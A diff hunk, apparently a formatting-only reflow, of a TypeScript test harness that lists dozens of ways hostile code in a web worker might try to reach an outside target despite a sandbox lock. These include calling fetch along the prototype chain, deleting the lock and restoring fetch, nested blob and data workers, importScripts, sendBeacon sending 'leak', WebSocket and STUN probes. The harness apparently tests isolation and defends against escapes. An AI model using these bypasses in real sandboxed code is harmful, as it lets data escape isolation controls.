@@ -42,81 +42,155 @@ function routes(target: string, ws: string, prefix: string, own: string): Route[
     ['fetch', 'fetch', (u) => fetch(u, { mode: 'no-cors' })],
     ['fetch-request', 'fetch', (u) => fetch(new Request(u, { mode: 'no-cors' }))],
     ['fetch-prototype-call', 'fetch', (u) => wgs.fetch!.call(scope, u, { mode: 'no-cors' })],
-    ['fetch-every-prototype', 'fetch', async (u) => {
-      // Every fetch along the chain, from the global up, called on the global.
-      for (let o: object | null = scope; o; o = Object.getPrototypeOf(o)) {
-        const f = Object.getOwnPropertyDescriptor(o, 'fetch')?.value as ((...a: unknown[]) => Promise<unknown>) | undefined;
-        if (typeof f === 'function') await Reflect.apply(f, scope, [u, { mode: 'no-cors' }]);
-      }
-    }],
-    ['fetch-restore', 'fetch', (u) => {
-      // Undo the lock: delete the global's own fetch, make the prototype's configurable again, call it.
-      Reflect.deleteProperty(scope, 'fetch');
-      Object.defineProperty(wgs, 'fetch', { ...Object.getOwnPropertyDescriptor(wgs, 'fetch'), configurable: true });
-      return wgs.fetch!.call(scope, u, { mode: 'no-cors' });
-    }],
+    [
+      'fetch-every-prototype',
+      'fetch',
+      async (u) => {
+        // Every fetch along the chain, from the global up, called on the global.
+        for (let o: object | null = scope; o; o = Object.getPrototypeOf(o)) {
+          const f = Object.getOwnPropertyDescriptor(o, 'fetch')?.value as ((...a: unknown[]) => Promise<unknown>) | undefined;
+          if (typeof f === 'function') await Reflect.apply(f, scope, [u, { mode: 'no-cors' }]);
+        }
+      },
+    ],
+    [
+      'fetch-restore',
+      'fetch',
+      (u) => {
+        // Undo the lock: delete the global's own fetch, make the prototype's configurable again, call it.
+        Reflect.deleteProperty(scope, 'fetch');
+        Object.defineProperty(wgs, 'fetch', { ...Object.getOwnPropertyDescriptor(wgs, 'fetch'), configurable: true });
+        return wgs.fetch!.call(scope, u, { mode: 'no-cors' });
+      },
+    ],
     ['function-constructor', 'fetch', (u) => (new Function('return fetch')() as typeof fetch)(u, { mode: 'no-cors' })],
-    ['xhr', 'XMLHttpRequest', (u) => {
-      const x = new (ctor('XMLHttpRequest'))();
-      (x.open as (m: string, u: string) => void)('GET', u);
-      (x.send as () => void)();
-    }],
+    [
+      'xhr',
+      'XMLHttpRequest',
+      (u) => {
+        const x = new (ctor('XMLHttpRequest'))();
+        (x.open as (m: string, u: string) => void)('GET', u);
+        (x.send as () => void)();
+      },
+    ],
     ['websocket', 'WebSocket', () => new (ctor('WebSocket'))(`${ws}/hit/${prefix}websocket`)],
     ['websocketstream', 'WebSocketStream', () => new (ctor('WebSocketStream'))(`${ws}/hit/${prefix}websocketstream`)],
-    ['eventsource', 'EventSource', (u) => {
-      const es = new (ctor('EventSource'))(u);
-      setTimeout(() => (es.close as () => void)(), 2000);
-    }],
+    [
+      'eventsource',
+      'EventSource',
+      (u) => {
+        const es = new (ctor('EventSource'))(u);
+        setTimeout(() => (es.close as () => void)(), 2000);
+      },
+    ],
     ['webtransport', 'WebTransport', (u) => new (ctor('WebTransport'))(u.replace(/^http:/, 'https:'))],
     ['importScripts', 'importScripts', (u) => (g('importScripts') as (u: string) => void)(u)],
     ['importScripts-prototype-call', 'importScripts', (u) => wgs.importScripts!.call(scope, u)],
     ['dynamic-import', 'import()', (u) => import(/* @vite-ignore */ `${u}.mjs`)],
     // import() of the app's own origin: allowed by script-src 'self', refused by a CSP naming the worker's exact URL.
     ['dynamic-import-same-origin', 'import()', () => import(/* @vite-ignore */ new URL(`/same-origin-import/${prefix}leak.mjs`, own).href)],
-    ['caches-add', 'caches', async (u) => {
-      const cache = (await (g('caches') as { open: (n: string) => Promise<{ add: (u: string) => Promise<void> }> }).open('hostile'));
-      await cache.add(u);
-    }],
-    ['caches-getter-call', 'caches', async (u) => {
-      const get = Object.getOwnPropertyDescriptor(wgs, 'caches')!.get!;
-      const storage = get.call(scope) as { open: (n: string) => Promise<{ add: (u: string) => Promise<void> }> };
-      await (await storage.open('hostile2')).add(u);
-    }],
+    [
+      'caches-add',
+      'caches',
+      async (u) => {
+        const cache = await (g('caches') as { open: (n: string) => Promise<{ add: (u: string) => Promise<void> }> }).open('hostile');
+        await cache.add(u);
+      },
+    ],
+    [
+      'caches-getter-call',
+      'caches',
+      async (u) => {
+        const get = Object.getOwnPropertyDescriptor(wgs, 'caches')!.get!;
+        const storage = get.call(scope) as { open: (n: string) => Promise<{ add: (u: string) => Promise<void> }> };
+        await (await storage.open('hostile2')).add(u);
+      },
+    ],
     ['fontface-load', 'FontFace', (u) => (new (ctor('FontFace'))('hostile', `url(${u})`).load as () => Promise<unknown>)()],
-    ['fonts-load', 'fonts', async (u) => {
-      const face = new (ctor('FontFace'))('hostile2', `url(${u})`);
-      const fonts = g('fonts') as { add: (f: unknown) => void; load: (s: string) => Promise<unknown> };
-      fonts.add(face);
-      await fonts.load('12px hostile2');
-    }],
-    ['worker-blob', 'Worker', (u) => new Worker(URL.createObjectURL(new Blob([nestedSource(u, false)], { type: 'text/javascript' })), { type: 'module' })],
-    ['worker-blob-classic-importScripts', 'Worker', (u) => new Worker(URL.createObjectURL(new Blob([nestedSource(u, true)], { type: 'text/javascript' })))],
+    [
+      'fonts-load',
+      'fonts',
+      async (u) => {
+        const face = new (ctor('FontFace'))('hostile2', `url(${u})`);
+        const fonts = g('fonts') as { add: (f: unknown) => void; load: (s: string) => Promise<unknown> };
+        fonts.add(face);
+        await fonts.load('12px hostile2');
+      },
+    ],
+    [
+      'worker-blob',
+      'Worker',
+      (u) => new Worker(URL.createObjectURL(new Blob([nestedSource(u, false)], { type: 'text/javascript' })), { type: 'module' }),
+    ],
+    [
+      'worker-blob-classic-importScripts',
+      'Worker',
+      (u) => new Worker(URL.createObjectURL(new Blob([nestedSource(u, true)], { type: 'text/javascript' }))),
+    ],
     ['worker-data', 'Worker', (u) => new Worker(`data:text/javascript,${encodeURIComponent(nestedSource(u, false))}`, { type: 'module' })],
-    ['worker-blob-named-em-pthread', 'Worker', (u) => new Worker(URL.createObjectURL(new Blob([nestedSource(u, false)], { type: 'text/javascript' })), { type: 'module', name: 'em-pthread' })],
-    ['worker-prototype-constructor', 'Worker', (u) => {
-      const Real = (Worker.prototype as unknown as { constructor: new (url: string, o?: WorkerOptions) => Worker }).constructor;
-      return new Real(URL.createObjectURL(new Blob([nestedSource(u, false)], { type: 'text/javascript' })), { type: 'module' });
-    }],
-    ['sharedworker', 'SharedWorker', (u) => new (ctor('SharedWorker'))(URL.createObjectURL(new Blob([nestedSource(u, false)], { type: 'text/javascript' })))],
-    ['broadcastchannel', 'BroadcastChannel', () => {
-      const ch = new (ctor('BroadcastChannel'))('safeseal-hostile');
-      (ch.postMessage as (m: string) => void)(`leaked by ${prefix || 'worker'}`);
-    }],
-    ['sendBeacon', 'navigator.sendBeacon', (u) => ((navigator as unknown as Record<string, (u: string, d: string) => boolean>).sendBeacon!)(u, 'leak')],
-    ['rtcpeerconnection', 'RTCPeerConnection', () => {
-      const pc = new (ctor('RTCPeerConnection'))({ iceServers: [{ urls: `stun:${new URL(target).host}` }] });
-      (pc.createDataChannel as (n: string) => void)('x');
-      return (pc.createOffer as () => Promise<unknown>)().then((o) => (pc.setLocalDescription as (o: unknown) => Promise<void>)(o));
-    }],
+    [
+      'worker-blob-named-em-pthread',
+      'Worker',
+      (u) => new Worker(URL.createObjectURL(new Blob([nestedSource(u, false)], { type: 'text/javascript' })), { type: 'module', name: 'em-pthread' }),
+    ],
+    [
+      'worker-prototype-constructor',
+      'Worker',
+      (u) => {
+        const Real = (Worker.prototype as unknown as { constructor: new (url: string, o?: WorkerOptions) => Worker }).constructor;
+        return new Real(URL.createObjectURL(new Blob([nestedSource(u, false)], { type: 'text/javascript' })), { type: 'module' });
+      },
+    ],
+    [
+      'sharedworker',
+      'SharedWorker',
+      (u) => new (ctor('SharedWorker'))(URL.createObjectURL(new Blob([nestedSource(u, false)], { type: 'text/javascript' }))),
+    ],
+    [
+      'broadcastchannel',
+      'BroadcastChannel',
+      () => {
+        const ch = new (ctor('BroadcastChannel'))('safeseal-hostile');
+        (ch.postMessage as (m: string) => void)(`leaked by ${prefix || 'worker'}`);
+      },
+    ],
+    ['sendBeacon', 'navigator.sendBeacon', (u) => (navigator as unknown as Record<string, (u: string, d: string) => boolean>).sendBeacon!(u, 'leak')],
+    [
+      'rtcpeerconnection',
+      'RTCPeerConnection',
+      () => {
+        const pc = new (ctor('RTCPeerConnection'))({ iceServers: [{ urls: `stun:${new URL(target).host}` }] });
+        (pc.createDataChannel as (n: string) => void)('x');
+        return (pc.createOffer as () => Promise<unknown>)().then((o) => (pc.setLocalDescription as (o: unknown) => Promise<void>)(o));
+      },
+    ],
     ['indexedDB', 'indexedDB', () => (g('indexedDB') as { open: (n: string) => unknown }).open('hostile')],
-    ['navigator.storage', 'navigator.storage', () => (navigator as unknown as { storage: { getDirectory: () => Promise<unknown> } }).storage.getDirectory()],
-    ['navigator.locks', 'navigator.locks', () => (navigator as unknown as { locks: { request: (n: string, f: () => void) => Promise<unknown> } }).locks.request('hostile-leak', () => undefined)],
-    ['navigator.serviceWorker', 'navigator.serviceWorker', () => (navigator as unknown as { serviceWorker: { register: (u: string) => unknown } }).serviceWorker.register('/sw.js')],
-    ['webkitRequestFileSystem', 'webkitRequestFileSystem', () => (g('webkitRequestFileSystem') as (t: number, n: number, ok: () => void) => void)(0, 1024, () => undefined)],
+    [
+      'navigator.storage',
+      'navigator.storage',
+      () => (navigator as unknown as { storage: { getDirectory: () => Promise<unknown> } }).storage.getDirectory(),
+    ],
+    [
+      'navigator.locks',
+      'navigator.locks',
+      () =>
+        (navigator as unknown as { locks: { request: (n: string, f: () => void) => Promise<unknown> } }).locks.request(
+          'hostile-leak',
+          () => undefined,
+        ),
+    ],
+    [
+      'navigator.serviceWorker',
+      'navigator.serviceWorker',
+      () => (navigator as unknown as { serviceWorker: { register: (u: string) => unknown } }).serviceWorker.register('/sw.js'),
+    ],
+    [
+      'webkitRequestFileSystem',
+      'webkitRequestFileSystem',
+      () => (g('webkitRequestFileSystem') as (t: number, n: number, ok: () => void) => void)(0, 1024, () => undefined),
+    ],
     ['notification', 'Notification', () => new (ctor('Notification'))('hostile', { icon: `${target}/hit/${prefix}notification` })],
-    ...(prefix === ''
-      ? ([['worker-own-url-em-pthread', 'Worker', () => spawnOwnThread(own, target, ws)]] as Route[])
-      : []),
+    ...(prefix === '' ? ([['worker-own-url-em-pthread', 'Worker', () => spawnOwnThread(own, target, ws)]] as Route[]) : []),
   ];
 }
 
